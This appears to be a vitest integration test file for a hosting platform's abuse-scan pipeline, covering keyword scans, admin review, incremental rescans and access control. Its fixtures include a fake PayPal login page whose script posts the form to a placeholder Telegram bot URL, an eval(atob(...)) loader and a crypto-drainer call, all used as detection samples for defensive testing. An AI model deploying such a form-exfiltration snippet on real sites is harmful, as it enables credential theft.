import { randomBytes, randomUUID } from 'node:crypto';
import { GetCommand, PutCommand } from '@aws-sdk/lib-dynamodb';
import { scanCachePrefix } from '../../lib/abuse/scan-cache.ts';
import { runAbuseScan, scanDeploymentFiles } from '../../lib/abuse/scans.ts';
import { getObject, putObject } from '../../lib/aws/s3-lite.ts';
import { dynamo } from '../../lib/aws/clients.ts';
import { config } from '../../lib/config.ts';
import { keys } from '../../lib/db/keys.ts';
import { setTeamPlan } from '../../lib/teams/standing.ts';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { expectEnvelopeError as expectError } from '../support/envelope.ts';
import { makeTeamWithRoles, makeUser, startTestPlatform, type TestPlatform } from '../support/platform.ts';
import { deploy, putMissing, site, type SiteFiles } from '../support/uploads.ts';

/**
 * Keyword scans (issue 11 item 2): real publishes through the upload API, the
 * scan run by the local queue driver from the abuseScans queue (the worker row
 * of lib/workers.ts), read back through GET /api/v1/admin/abuse-scans (spec
 * endpoint 18), and reviewed through POST /api/v1/admin/abuse-scans/{id}/review.
 * The order and paging of a larger listing are in abuse-scans-order.test.ts.
 */

const ROW_FIELDS = [
  'branch',
  'created_at',
  'deployment_id',
  'error',
  'files_scanned',
  'handled_at',
  'handled_by',
  'id',
  'matches',
  'priority',
  'project_id',
  'report_count',
  'resolution',
  'review_status',
  'scanned_at',
  'score',
  'site_host',
  'status',
  'team_id',
  'team_name',
  'truncated',
];

const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));
const TELEGRAM = `https://api.telegram.org/bot987654321:${'Q'.repeat(35)}/sendMessage`;

let platform: TestPlatform;
let admin: Awaited<ReturnType<typeof makeUser>>;
let roles: Awaited<ReturnType<typeof makeTeamWithRoles>>;

const list = (query = '', token: string | null = admin.token) =>
  platform.api('GET', `/api/v1/admin/abuse-scans${query}`, { token: token ?? undefined });
const review = (id: string, body: unknown, token: string | null = admin.token) =>
  platform.api('POST', `/api/v1/admin/abuse-scans/${id}/review`, { token: token ?? undefined, body });

/** Every listed row of a review status (all pages). */
async function allRows(status = 'new'): Promise<any[]> {
  const reply = await list(`?review_status=${status}&page_size=100`);
  expect(reply.status).toBe(200);
  return reply.body.data.scans;
}

/** Waits for the worker to list the scan of this deployment. */
async function listedScanOf(deploymentId: string, status = 'new', timeoutMs = 20_000): Promise<any> {
  const deadline = Date.now() + timeoutMs;
  for (;;) {
    const row = (await allRows(status)).find((r) => r.deployment_id === deploymentId);
    if (row) return row;
    if (Date.now() > deadline) throw new Error(`no ${status} scan listed for deployment ${deploymentId}`);
    await sleep(100);
  }
}

async function publishAgain(projectId: string, s: SiteFiles): Promise<string> {
  const begin = await platform.api('POST', `/api/v1/projects/${projectId}/uploads`, { token: roles.owner.token, body: { files: s.files } });
  expect(begin.status).toBe(201);
  await putMissing(platform, roles.owner.token, begin.body.data.upload_id, begin.body.data.missing, s);
  const fin = await platform.api('POST', `/api/v1/uploads/${begin.body.data.upload_id}/finalize`, { token: roles.owner.token });
  expect(fin.status).toBe(200);
  return begin.body.data.deployment_id;
}

const phishingKit = () =>
  site({
    'index.html': `<h1>Sign in to your PayPal</h1><form><input type="password" name="pw"></form><script src="/js/send.js"></script>`,
    'js/send.js': `fetch("${TELEGRAM}", {method: "POST", body: new FormData(document.forms[0])});`,
    'css/site.css': 'body { color: #123 }',
    'img/logo.png': Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 1, 2, 3]),
  });

beforeAll(async () => {
  platform = await startTestPlatform();
  admin = await makeUser({ platformAdmin: true, name: 'Platform Admin' });
  roles = await makeTeamWithRoles();
  // More sites than the free plan's five.
  await setTeamPlan(roles.team.id, 'team');
}, 60_000);
afterAll(async () => {
  await platform?.stop();
});

describe('a publish is scanned off the publish path', () => {
  let projectId: string;
  let firstDeployment: string;
  let firstScan: any;

  it('finalize queues the scan; the worker records the row exactly as the spec lists it', async () => {
    const subdomain = `scan-${randomBytes(3).toString('hex')}`;
    const deployed = await deploy(platform, roles.owner.token, phishingKit(), { name: `Scanned ${subdomain}`, subdomain });
    projectId = deployed.begin.project_id;
    firstDeployment = deployed.finalize.deployment_id;
    const row = await listedScanOf(firstDeployment);
    firstScan = row;
    expect(Object.keys(row).sort()).toEqual(ROW_FIELDS);
    expect(row).toEqual({
      id: expect.stringMatching(/^[0-9a-f-]{36}$/),
      project_id: projectId,
      team_id: roles.team.id,
      team_name: roles.team.name,
      deployment_id: firstDeployment,
      branch: 'production',
      site_host: `${subdomain}.localhost`,
      status: 'finished',
      error: null,
      // index.html, js/send.js, css/site.css; the PNG is not text.
      files_scanned: 3,
      truncated: false,
      matches: [
        {
          rule_id: 'phishing.credential-exfiltration',
          category: 'phishing',
          hits: 1,
          examples: [{ path: 'js/send.js', snippet: expect.stringContaining('api.telegram.org/bot987654321:') }],
        },
        {
          rule_id: 'phishing.brand-login',
          category: 'phishing',
          hits: 1,
          examples: [{ path: 'index.html', snippet: expect.stringContaining('Sign in to your PayPal') }],
        },
        {
          rule_id: 'phishing.password-field',
          category: 'phishing',
          hits: 1,
          examples: [{ path: 'index.html', snippet: expect.stringContaining('type="password"') }],
        },
      ],
      score: 40 + 15 + 5,
      priority: 'high',
      report_count: 0,
      review_status: 'new',
      handled_at: null,
      handled_by: null,
      resolution: null,
      created_at: expect.stringMatching(/Z$/),
      scanned_at: expect.stringMatching(/Z$/),
    });
  }, 60_000);

  it('report_count counts the abuse reports naming the project, and moves it to the reported group', async () => {
    const reported = await platform.api('POST', '/api/v1/public/abuse-reports', {
      body: {
        category: 'phishing',
        description: 'Fake PayPal login',
        reported_urls: [`http://${firstScan.site_host}:${platform.port}/`],
        reporter_name: 'Rita',
        reporter_email: 'rita@example.com',
        good_faith_declared: true,
      },
    });
    expect(reported.status).toBe(201);
    const row = await listedScanOf(firstDeployment);
    expect(row.report_count).toBe(1);
  });

  it('a newer publish of the branch replaces the listed scan; a superseded scan cannot be reviewed', async () => {
    const second = await publishAgain(projectId, site({ 'index.html': '<h1>All clean now</h1>' }));
    const row = await listedScanOf(second);
    expect(row).toMatchObject({
      project_id: projectId,
      branch: 'production',
      matches: [],
      score: 0,
      priority: 'none',
      report_count: 1,
      files_scanned: 1,
    });
    expect((await allRows()).filter((r) => r.project_id === projectId)).toHaveLength(1);
    const superseded = await review(firstScan.id, { review_status: 'dismissed' });
    expectError(superseded, 409, 'ABUSE_SCAN_SUPERSEDED');
    expect(superseded.body.details).toEqual({ latest_scan_id: row.id });
    // The admin dismisses the clean one.
    expect((await review(row.id, { review_status: 'dismissed' })).status).toBe(200);
    expect((await allRows()).filter((r) => r.project_id === projectId)).toEqual([]);
  }, 60_000);

  it('an older scan whose deployment is live again is listed again, as new', async () => {
    const promoted = await platform.api('POST', `/api/v1/projects/${projectId}/promote`, {
      token: roles.owner.token,
      body: { deployment_id: firstDeployment },
    });
    expect(promoted.status).toBe(200);
    const row = await listedScanOf(firstDeployment);
    expect(row).toMatchObject({
      id: firstScan.id,
      review_status: 'new',
      handled_at: null,
      handled_by: null,
      resolution: null,
      score: 60,
      report_count: 1,
    });
    expect((await allRows('dismissed')).filter((r) => r.project_id === projectId)).toEqual([]);
    // And now it can be reviewed.
    const actioned = await review(firstScan.id, { review_status: 'actioned', resolution: 'Site suspended: PayPal phishing kit.' });
    expect(actioned.status).toBe(200);
    expect(actioned.body.data).toMatchObject({
      id: firstScan.id,
      review_status: 'actioned',
      handled_by: admin.user.user_id,
      handled_at: expect.stringMatching(/Z$/),
      resolution: 'Site suspended: PayPal phishing kit.',
    });
    expect((await allRows('actioned')).map((r) => r.id)).toContain(firstScan.id);
  }, 60_000);

  it('truncated: a file past the per-file cap is read only up to it', async () => {
    process.env.ABUSE_SCAN_FILE_MAX_BYTES = '4096';
    try {
      const subdomain = `big-${randomBytes(3).toString('hex')}`;
      const deployed = await deploy(
        platform,
        roles.owner.token,
        site({
          'index.html': `<p>${'lorem ipsum '.repeat(1000)}</p><script>eval(atob("YWxlcnQoMSk="))</script>`,
          'small.html': '<input type="password">',
        }),
        { name: `Big ${subdomain}`, subdomain },
      );
      const row = await listedScanOf(deployed.finalize.deployment_id);
      expect(row).toMatchObject({ truncated: true, files_scanned: 2, score: 5 });
      // The loader past the first 4 KiB was not read.
      expect(row.matches.map((m: any) => m.rule_id)).toEqual(['phishing.password-field']);
    } finally {
      delete process.env.ABUSE_SCAN_FILE_MAX_BYTES;
    }
  }, 60_000);
});

describe('a redeploy is scanned by what changed', () => {
  it("reads only the contents the project's earlier scan did not see, and records exactly what a full read finds", async () => {
    const subdomain = `incr-${randomBytes(3).toString('hex')}`;
    const files: Record<string, string> = {
      'index.html': `<h1>Sign in to your PayPal</h1><form><input type="password"></form>`,
      'js/send.js': `fetch("${TELEGRAM}");`,
      'js/copy.js': `fetch("${TELEGRAM}");`,
    };
    for (let i = 0; i < 8; i++) files[`pages/p${i}.html`] = `<p>page ${i} ${randomBytes(4).toString('hex')}</p><input type="password">`;
    const deployed = await deploy(platform, roles.owner.token, site(files), { name: `Incremental ${subdomain}`, subdomain });
    const projectId = deployed.begin.project_id as string;
    await listedScanOf(deployed.finalize.deployment_id);

    // One file changed: it gains a drainer call.
    files['pages/p3.html'] = `<p>changed</p><script>setApprovalForAll(x, true)</script>`;
    const second = await publishAgain(projectId, site(files));
    const row = await listedScanOf(second);
    const target = { team_id: roles.team.id, project_id: projectId, slug: deployed.begin.project.slug as string, deployment_id: second };
    const full = await scanDeploymentFiles(target, { reuse: false });
    // 11 text files, 10 contents: js/send.js and js/copy.js are the same bytes, read once even by a full scan.
    expect(full.files_scanned).toBe(11);
    expect(full.files_read).toBe(10);
    expect(row).toMatchObject({
      files_scanned: full.files_scanned,
      truncated: full.truncated,
      matches: full.matches,
      score: full.score,
      priority: full.priority,
    });
    expect(row.matches.map((m: any) => m.rule_id)).toContain('malware.crypto-drainer');

    // What the worker's scan of this deployment kept is all a scan of it needs: nothing is read again.
    const again = await scanDeploymentFiles(target, { reuse: true });
    expect(again.files_read).toBe(0);
    expect({ ...again, files_read: 10 }).toEqual(full);

    // A third deploy changing one file: with what the second deployment's scan kept (as the worker found it),
    // its scan reads that file alone and finds what a full read finds.
    const cacheKey = `${scanCachePrefix(roles.team.id, projectId)}blobs.json`;
    const keptBySecond = await (await getObject(config.bucket('bundles'), cacheKey)).transformToString();
    const third = await publishAgain(projectId, site({ ...files, 'js/send.js': `// gone` }));
    await listedScanOf(third);
    await putObject({ bucket: config.bucket('bundles'), key: cacheKey, body: keptBySecond, contentType: 'application/json' });
    const thirdTarget = { ...target, deployment_id: third };
    const incremental = await scanDeploymentFiles(thirdTarget, { reuse: true });
    const thirdFull = await scanDeploymentFiles(thirdTarget, { reuse: false });
    expect(incremental.files_read).toBe(1);
    expect({ ...incremental, files_read: thirdFull.files_read }).toEqual(thirdFull);
    // The examples keep the paths of this deployment, in path order (js/copy.js before js/send.js went).
    expect(thirdFull.matches.find((m) => m.rule_id === 'phishing.credential-exfiltration')).toMatchObject({
      hits: 1,
      examples: [{ path: 'js/copy.js' }],
    });
  }, 90_000);

  it('with the earlier results of another rule set or per-file cap, everything is read again', async () => {
    const subdomain = `cap-${randomBytes(3).toString('hex')}`;
    const deployed = await deploy(
      platform,
      roles.owner.token,
      site({ 'index.html': `<input type="password"> ${randomBytes(4).toString('hex')}` }),
      {
        name: `Cap ${subdomain}`,
        subdomain,
      },
    );
    await listedScanOf(deployed.finalize.deployment_id);
    const target = {
      team_id: roles.team.id,
      project_id: deployed.begin.project_id as string,
      slug: deployed.begin.project.slug as string,
      deployment_id: deployed.finalize.deployment_id,
    };
    expect((await scanDeploymentFiles(target, { reuse: true })).files_read).toBe(0);
    process.env.ABUSE_SCAN_FILE_MAX_BYTES = '100000';
    try {
      expect((await scanDeploymentFiles(target, { reuse: true })).files_read).toBe(1);
    } finally {
      delete process.env.ABUSE_SCAN_FILE_MAX_BYTES;
    }
  }, 60_000);
});

describe('the worker', () => {
  it('racing runs of one queued scan (a redelivered message): exactly one records it', async () => {
    const subdomain = `redo-${randomBytes(3).toString('hex')}`;
    const deployed = await deploy(platform, roles.owner.token, phishingKit(), { name: `Redo ${subdomain}`, subdomain });
    const listed = await listedScanOf(deployed.finalize.deployment_id);
    // A second queued record of the same deployment, as finalize writes one, run by four consumers at once.
    const id = randomUUID();
    await dynamo().send(
      new PutCommand({
        TableName: config.tableName(),
        Item: {
          ...keys.abuseScan(id),
          type: 'abuse_scan',
          id,
          project_id: listed.project_id,
          team_id: listed.team_id,
          deployment_id: listed.deployment_id,
          slug: deployed.begin.project.slug,
          branch: 'production',
          site_host: listed.site_host,
          deployed_at: new Date().toISOString(),
          status: 'queued',
          review_status: 'new',
          created_at: new Date().toISOString(),
        },
      }),
    );
    const outcomes = await Promise.all([1, 2, 3, 4].map(() => runAbuseScan(id)));
    expect(outcomes.sort()).toEqual(['finished', 'skipped', 'skipped', 'skipped']);
    const record = (await dynamo().send(new GetCommand({ TableName: config.tableName(), Key: keys.abuseScan(id), ConsistentRead: true })))
      .Item!;
    expect(record).toMatchObject({ status: 'finished', score: 60, files_scanned: 3 });
    const rows = (await allRows()).filter((r) => r.project_id === listed.project_id);
    expect(rows.map((r) => r.id)).toEqual([id]);
  }, 60_000);

  it('parallel reports naming a listed project: report_count ends at exactly their number', async () => {
    const subdomain = `many-${randomBytes(3).toString('hex')}`;
    const deployed = await deploy(platform, roles.owner.token, phishingKit(), { name: `Many ${subdomain}`, subdomain });
    await listedScanOf(deployed.finalize.deployment_id);
    const replies = await Promise.all(
      [1, 2, 3, 4, 5, 6].map((i) =>
        platform.api('POST', '/api/v1/public/abuse-reports', {
          body: {
            category: 'fraud',
            description: `Report ${i}`,
            reported_urls: [`http://${subdomain}.localhost:${platform.port}/login`],
            reporter_name: `Reporter ${i}`,
            reporter_email: `reporter-${i}-${subdomain}@example.com`,
            good_faith_declared: true,
          },
        }),
      ),
    );
    expect(replies.map((r) => r.status)).toEqual([201, 201, 201, 201, 201, 201]);
    // Each report refreshes the count after its own write, and a smaller count never overwrites a larger.
    expect((await listedScanOf(deployed.finalize.deployment_id)).report_count).toBe(6);
  }, 60_000);

  it('a deleted project leaves the listing', async () => {
    const subdomain = `gone-${randomBytes(3).toString('hex')}`;
    const deployed = await deploy(platform, roles.owner.token, phishingKit(), { name: `Gone ${subdomain}`, subdomain });
    await listedScanOf(deployed.finalize.deployment_id);
    const deleted = await platform.api('DELETE', `/api/v1/projects/${deployed.begin.project_id}`, { token: roles.owner.token });
    expect(deleted.status).toBeLessThan(300);
    const deadline = Date.now() + 20_000;
    while ((await allRows()).some((r) => r.project_id === deployed.begin.project_id)) {
      if (Date.now() > deadline) throw new Error('the deleted project is still listed');
      await sleep(100);
    }
  }, 60_000);
});

describe('POST /api/v1/admin/abuse-scans/{id}/review', () => {
  it('racing reviews of one scan: exactly one wins, the others get 409 ABUSE_SCAN_ALREADY_REVIEWED', async () => {
    const subdomain = `race-${randomBytes(3).toString('hex')}`;
    const deployed = await deploy(platform, roles.owner.token, phishingKit(), { name: `Race ${subdomain}`, subdomain });
    const row = await listedScanOf(deployed.finalize.deployment_id);
    const decisions = ['dismissed', 'actioned', 'dismissed', 'actioned', 'dismissed', 'actioned'] as const;
    const replies = await Promise.all(decisions.map((d) => review(row.id, { review_status: d, resolution: d })));
    const winners = replies.filter((r) => r.status === 200);
    expect(winners).toHaveLength(1);
    for (const loser of replies.filter((r) => r.status !== 200)) {
      expectError(loser, 409, 'ABUSE_SCAN_ALREADY_REVIEWED');
      expect(loser.body.details).toEqual({ review_status: winners[0]!.body.data.review_status });
    }
    const status = winners[0]!.body.data.review_status;
    expect(winners[0]!.body.data.resolution).toBe(status);
    expect((await allRows(status)).filter((r) => r.id === row.id)).toHaveLength(1);
    expect((await allRows('new')).filter((r) => r.id === row.id)).toHaveLength(0);
  }, 60_000);

  it('bad input is 400 VALIDATION_FAILED and changes nothing; an unknown scan is 404 ABUSE_SCAN_NOT_FOUND', async () => {
    const subdomain = `bad-${randomBytes(3).toString('hex')}`;
    const deployed = await deploy(platform, roles.owner.token, phishingKit(), { name: `Bad ${subdomain}`, subdomain });
    const row = await listedScanOf(deployed.finalize.deployment_id);
    for (const body of [
      {},
      { review_status: 'new' },
      { review_status: 'deleted' },
      { review_status: 'dismissed', resolution: 'x'.repeat(1001) },
      { review_status: 'dismissed', extra: 1 },
    ]) {
      expectError(await review(row.id, body), 400, 'VALIDATION_FAILED');
    }
    expect((await listedScanOf(deployed.finalize.deployment_id)).review_status).toBe('new');
    expectError(await review(randomUUID(), { review_status: 'dismissed' }), 404, 'ABUSE_SCAN_NOT_FOUND');
    expectError(await review('not-a-uuid', { review_status: 'dismissed' }), 404, 'ABUSE_SCAN_NOT_FOUND');
  }, 60_000);
});

describe('GET /api/v1/admin/abuse-scans: query bounds', () => {
  it('defaults: review_status new, page 1, page_size 20', async () => {
    const reply = await list();
    expect(reply.status).toBe(200);
    expect(reply.body.data).toEqual({ page: 1, page_size: 20, total: expect.any(Number), scans: expect.any(Array) });
    expect(reply.body.data.scans.every((r: any) => r.review_status === 'new')).toBe(true);
  });

  it('page_size 1 and 100 are accepted; 0, 101, a fraction or text, page 0 and an unknown review_status are 400 VALIDATION_FAILED', async () => {
    expect((await list('?page_size=1')).body.data).toMatchObject({ page: 1, page_size: 1 });
    expect((await list('?page_size=100&page=3')).body.data).toMatchObject({ page: 3, page_size: 100, scans: [] });
    for (const query of [
      '?page_size=0',
      '?page_size=101',
      '?page_size=2.5',
      '?page_size=ten',
      '?page=0',
      '?page=-1',
      '?page=abc',
      '?review_status=open',
      '?review_status=',
    ]) {
      expectError(await list(query), 400, 'VALIDATION_FAILED');
    }
  });
});

describe('authorization: /api/v1/admin/* is for platform administrators only', () => {
  it('403 PLATFORM_ADMIN_REQUIRED for the team owner, admin, member, its API key and outsiders; 401 without a credential', async () => {
    const id = randomUUID();
    for (const actor of [roles.owner, roles.admin, roles.member, roles.apiKey, roles.outsider]) {
      expectError(await list('', actor.token), 403, 'PLATFORM_ADMIN_REQUIRED');
      expectError(await review(id, { review_status: 'dismissed' }, actor.token), 403, 'PLATFORM_ADMIN_REQUIRED');
    }
    expectError(await list('', null), 401, 'UNAUTHENTICATED');
    expectError(await review(id, { review_status: 'dismissed' }, null), 401, 'UNAUTHENTICATED');
    expectError(await list('', `slw_s_${'C'.repeat(43)}`), 401, 'UNAUTHENTICATED');
    expectError(await review(id, { review_status: 'dismissed' }, `slw_k_${'C'.repeat(43)}`), 401, 'UNAUTHENTICATED');
  });
});
